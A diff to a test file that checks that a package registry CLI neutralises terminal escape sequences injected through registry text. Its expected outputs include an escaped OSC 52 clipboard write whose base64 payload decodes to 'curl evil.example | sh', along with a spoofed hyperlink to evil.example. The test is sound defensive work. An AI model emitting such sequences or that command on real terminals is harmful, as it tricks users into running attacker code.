@@ -73,10 +73,12 @@ describe("registry text in errors and warnings cannot drive the terminal", () =>
 
     const r = await runOnColorTerminal(["list"], cwd, env);
     expect(r.code, r.stderr).toBe(0);
-    // Colour is on: skillreg's own bold name is there...
+    // Colour is on: skillreg's own bold name and dim note are there...
     expect(r.stdout).toContain("\u001b[1m@acme/deploy@1.0.0\u001b[0m");
-    // ...and it is the only escape sequence that reaches the terminal.
-    expect(r.stdout.replaceAll("\u001b[1m", "").replaceAll("\u001b[0m", "")).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/);
+    expect(r.stdout).toContain("\u001b[2msigners as skillreg.lock records them");
+    // ...and they are the only escape sequences that reach the terminal.
+    const ours = /\u001b\[[012]m/g;
+    expect(r.stdout.replace(ours, "")).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/);
     expect(r.stdout).toContain("(\\x1b[32mverified\\x1b[0m)");
     expect(r.stdout).toContain("\\x1b]8;;https://evil.example/\\x07docs\\x1b]8;;\\x07");
     expect(r.stdout).toContain("\\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\x07");
